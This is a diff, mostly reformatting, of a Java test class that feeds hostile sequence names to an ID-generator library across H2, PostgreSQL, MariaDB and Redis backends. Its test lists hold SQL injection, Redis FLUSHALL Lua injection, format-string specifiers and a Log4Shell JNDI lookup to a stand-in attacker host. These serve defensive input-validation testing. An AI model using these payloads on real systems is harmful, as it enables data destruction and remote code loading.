@@ -51,16 +51,16 @@ import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException
 class HostileInputTests {
 
 	private static final List<String> INVALID_NAMES = List.of("", " leading", "trailing ", "nul\u0000char",
-			"line\nFAKE LOG LINE", "tab\tname", "next\u0085line", "x".repeat(129), "y".repeat(10_000),
-			"order@20261121", "@");
+			"line\nFAKE LOG LINE", "tab\tname", "next\u0085line", "x".repeat(129), "y".repeat(10_000), "order@20261121",
+			"@");
 
 	private static final List<String> INVALID_ON_REDIS = List.of("a{b}", "{", "}", "{$gt: ''}",
 			"${jndi:ldap://attacker.example/x}");
 
-	private static final List<String> NASTY_BUT_VALID = List.of("'; DROP TABLE idgen_segment; --",
-			"\" OR \"1\"=\"1", "redis.call('FLUSHALL')", "]]..redis.call('FLUSHALL')..[[", "%s%n%x%d",
-			"ünïcødé-序列-🎉", "z".repeat(128), "back\\slash", "$where", "_id",
-			"a.b.c", "*", "?", "idgen:worker:0", "{$gt: ''}", "${jndi:ldap://attacker.example/x}");
+	private static final List<String> NASTY_BUT_VALID = List.of("'; DROP TABLE idgen_segment; --", "\" OR \"1\"=\"1",
+			"redis.call('FLUSHALL')", "]]..redis.call('FLUSHALL')..[[", "%s%n%x%d", "ünïcødé-序列-🎉", "z".repeat(128),
+			"back\\slash", "$where", "_id", "a.b.c", "*", "?", "idgen:worker:0", "{$gt: ''}",
+			"${jndi:ldap://attacker.example/x}");
 
 	@ParameterizedTest
 	@EnumSource(Backend.class)
@@ -74,7 +74,8 @@ class HostileInputTests {
 			}
 			for (String name : invalid) {
 				long started = System.nanoTime();
-				assertThatIllegalArgumentException().as(printable(name)).isThrownBy(() -> ids.nextId(name))
+				assertThatIllegalArgumentException().as(printable(name))
+					.isThrownBy(() -> ids.nextId(name))
 					.satisfies((ex) -> assertThat(ex.getMessage()).startsWith("Sequence name must")
 						.hasSizeLessThan(400)
 						.doesNotContain("\n", "\u0000", "\t", "\u0085"));
@@ -236,10 +237,12 @@ class HostileInputTests {
 			return switch (this) {
 				case H2 -> runner.withBean(DataSource.class, TestBackends::h2)
 					.withPropertyValues("idgen.jdbc.initialize-schema=always");
-				case POSTGRESQL -> runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.postgres()))
-					.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
-				case MARIADB -> runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.mariaDb()))
-					.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
+				case POSTGRESQL ->
+					runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.postgres()))
+						.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
+				case MARIADB ->
+					runner.withBean(DataSource.class, () -> new DelegatingDataSource(TestBackends.mariaDb()))
+						.withPropertyValues("idgen.jdbc.initialize-schema=always", "idgen.jdbc.table=" + namespace);
 				case REDIS -> runner
 					.withBean(RedisConnectionFactory.class, () -> new SwitchableConnectionFactory(TestBackends.redis()))
 					.withPropertyValues("idgen.redis.key-prefix=" + namespace + ":");
